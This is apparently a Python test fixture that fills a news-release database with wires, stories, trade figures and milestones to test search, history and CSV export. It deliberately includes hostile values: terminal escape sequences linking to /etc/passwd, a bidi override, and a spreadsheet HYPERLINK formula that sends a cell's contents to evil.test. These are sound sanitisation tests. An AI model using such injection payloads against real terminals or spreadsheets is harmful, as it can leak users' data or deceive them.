"""A small store for the tests of asking it (search, a measure's history, export): three
wires, a story carried by two of them, a hostile title, releases on a topic and off it.
Rows are inserted directly, so the commands are tested apart from polling and extraction."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone

from sqlalchemy.orm import Session

from storage.sql.models import Feed, FigureRow, MilestoneRow, Release, ReleaseTopic

T0 = datetime(2024, 7, 1, 9, tzinfo=timezone.utc)
TOPIC = "china-kazakhstan"
HOSTILE_TITLE = "Grain \x1b]8;;file:///etc/passwd\x1b\\[link]\x1b[2J[/b] :smile: \u202eevil\u202c deal"


def feed(s: Session, name: str) -> Feed:
    f = Feed(name=name, url=f"https://{name.lower().replace(' ', '-')}.test/rss", created_at=T0, error_count=0)
    s.add(f)
    s.flush()
    return f


def release(s: Session, f: Feed, title: str, body: str, *, day: int = 0, story: int | None = None,
            topic: str | None = None, url: str | None = "auto") -> Release:
    at = T0 + timedelta(days=day)
    r = Release(feed_id=f.id, guid=f"{f.id}-{day}-{title}", title=title, published_at=at, first_seen_at=at,
                updated_at=at, text=body, content_hash=f"{f.id}-{day}-{title}"[:64], revision=1, story_id=story,
                url=f"https://{f.name.lower().replace(' ', '-')}.test/{day}/{len(title)}" if url == "auto" else url)
    s.add(r)
    s.flush()
    if story is None:
        r.story_id = r.id
    if topic:
        s.add(ReleaseTopic(release_id=r.id, topic_id=topic, score=1.0, reasons=[]))
    s.flush()
    return r


FILLER = ["Port volumes steady", "Railway timetable changes", "Ministers meet in Astana", "Solar plant opens",
          "Bank raises rates", "Airline adds flights", "Copper output falls", "Bridge repairs finish"]


def with_filler(s: Session, f: Feed) -> None:
    """Releases without the searched words, so every searched word is rare (BM25's idf > 0)."""
    for i, title in enumerate(FILLER):
        release(s, f, title, f"{title}, the agency said on day {i}. Nothing else happened.", day=i)


def fill(s: Session) -> dict[str, Feed]:
    """Three wires; a wheat story carried by two; a hostile title; one release off the topic."""
    wires = {name: feed(s, name) for name in ("Astana Wire", "Steppe News", "Silk Road Daily")}
    with_filler(s, wires["Silk Road Daily"])
    lead = release(s, wires["Astana Wire"], "Wheat exports to China rise",
                   "ASTANA -- Kazakhstan said wheat exports to China rose in the first half.", day=10, topic=TOPIC)
    release(s, wires["Steppe News"], "Wheat exports to China rise",
            "ASTANA -- Kazakhstan said wheat exports to China rose in the first half.", day=10, story=lead.story_id,
            topic=TOPIC)
    release(s, wires["Steppe News"], HOSTILE_TITLE,
            "A wheat \x1b[31mred\x1b[0m [bold]deal[/bold] was signed\r\nat the border.", day=12, topic=TOPIC)
    release(s, wires["Silk Road Daily"], "Flour mills", "Mills bought wheat from Russia.", day=14)
    return wires


TRADE = "trade/cn-kz"


def figure(s: Session, r: Release, position: int, value: float, period: str | None, *, measure: str | None = TRADE,
           subject: str | None = "two-way trade", unit: str | None = "USD", kind: str = "money",
           text: str | None = None) -> None:
    text = text or f"${value / 1e9:g} billion"
    key = "|".join([kind, "money" if kind == "money" else unit or kind, f"m:{measure}" if measure else subject or "",
                    period or ""])
    s.add(FigureRow(release_id=r.id, position=position, kind=kind, value=value, unit=unit, text=text,
                    sentence=f"Trade reached {text} in {period}.", subject=subject, period=period, measure=measure,
                    measure_key=key))
    s.flush()


def fill_figures(s: Session) -> dict[str, Feed]:
    """China–Kazakhstan trade as three wires state it: 2023 disputed, then revised to agree
    (a copy repeating the first value), a half year and a target; another measure; figures
    stored before measure keys (subject only)."""
    w = {name: feed(s, name) for name in ("Astana Wire", "Steppe News", "Silk Road Daily")}
    first = release(s, w["Astana Wire"], "Trade with China hit $41 billion", "Trade reached $41 billion.", day=20,
                    topic=TOPIC)
    figure(s, first, 0, 41e9, "2023")
    figure(s, first, 1, 1.2e6, "2023", measure="exports/kz-to-cn/wheat", subject="wheat exports", unit="t",
           kind="quantity", text="1.2 million tonnes")
    copy = release(s, w["Steppe News"], "Trade with China hit $41 billion", "Trade reached $41 billion.", day=20,
                   story=first.story_id, topic=TOPIC)
    figure(s, copy, 0, 41e9, "2023")
    disputed = release(s, w["Silk Road Daily"], "China puts 2023 trade at $43.8 billion", "Trade was $43.8 billion.",
                       day=25, topic=TOPIC)
    figure(s, disputed, 0, 43.8e9, "2023")
    revised = release(s, w["Astana Wire"], "Final 2023 trade figure: $43.8 billion", "Final data: $43.8 billion.",
                      day=30, topic=TOPIC)
    figure(s, revised, 0, 43.8e9, "2023")
    figure(s, revised, 1, 41e9, None)  # no period: never compared
    half = release(s, w["Silk Road Daily"], "First-half trade $22 billion", "Trade was $22 billion in H1.", day=35)
    figure(s, half, 0, 22e9, "2024-H1")
    goal = release(s, w["Steppe News"], "A $35 billion goal for 2030", "They aim for $35 billion by 2030.", day=40,
                   topic=TOPIC)
    figure(s, goal, 0, 35e9, "target 2030")
    old = release(s, w["Astana Wire"], "Trade in 2022", "Two-way trade was $31 billion.", day=1)
    figure(s, old, 0, 31e9, "2022", measure=None, subject="Two-way trade")
    older = release(s, w["Silk Road Daily"], "Bilateral trade in 2022", "Bilateral trade was $31.5 billion.", day=2)
    figure(s, older, 0, 31.5e9, "2022", measure=None, subject="bilateral trade")
    return w


def milestone(s: Session, r: Release, position: int, date: str, event: str, status: str = "happened") -> None:
    s.add(MilestoneRow(release_id=r.id, position=position, year=int(date[:4]), date=date, event=event,
                       sentence=f"On {date}: {event}.", status=status, event_key=f"{date[:4]}|{event.lower()}"))
    s.flush()


FORMULA_TITLE = '=HYPERLINK("https://evil.test/?leak="&A1,"Wheat deal")'
MULTILINE_TITLE = 'Grain, rail and "ports":\nan update, in two lines'
EVIL_FEED = "=Evil Feed, Ltd"


def fill_export(s: Session) -> dict[str, Release]:
    """Releases, figures and milestones whose text is what breaks naive CSV: commas, quotes,
    line breaks, cells a spreadsheet runs as formulas (= + - @, a tab), other scripts; a
    story carried twice; a release on two topics, one off the topic, one without a link or
    a publication date."""
    w = {name: feed(s, name) for name in ("Astana Wire", "Steppe News", EVIL_FEED)}
    lead = release(s, w["Astana Wire"], 'Wheat exports, a "record" year', "Exports rose.", day=10, topic=TOPIC)
    s.add(ReleaseTopic(release_id=lead.id, topic_id="grain", score=0.8, reasons=[]))
    figure(s, lead, 0, 41e9, "2023")
    milestone(s, lead, 0, "2025-03-01", "the rail link opens", "announced")
    copy = release(s, w["Steppe News"], 'Wheat exports, a "record" year', "Exports rose.", day=10,
                   story=lead.story_id, topic=TOPIC)
    figure(s, copy, 0, 41e9, "2023")
    evil = release(s, w[EVIL_FEED], FORMULA_TITLE, "Trade fell.", day=12, topic=TOPIC)
    figure(s, evil, 0, -3.2, "2024", measure="trade/cn-kz/growth", subject="+growth of trade", unit="%",
           kind="percent", text="-3.2%")
    milestone(s, evil, 0, "2019", '@the "deal", signed\nat the border')
    off = release(s, w["Steppe News"], MULTILINE_TITLE, "Ports were busy.", day=14, url=None)
    off.analysis_note = "analysed the first 10 of 99 characters"
    figure(s, off, 0, 1500, None, measure=None, subject=None, unit=None, kind="count", text="1,500")
    milestone(s, off, 0, "2024-06", "-\tthe port reopens")
    late = release(s, w["Astana Wire"], "\tTabs +plus Қазақстан 中文 العربية 🚀", "Text.", day=40, topic=TOPIC)
    late.published_at = None
    s.flush()
    figure(s, late, 0, 0.5, "2024-Q3", text="$0.5")
    return {"lead": lead, "copy": copy, "evil": evil, "off": off, "late": late}
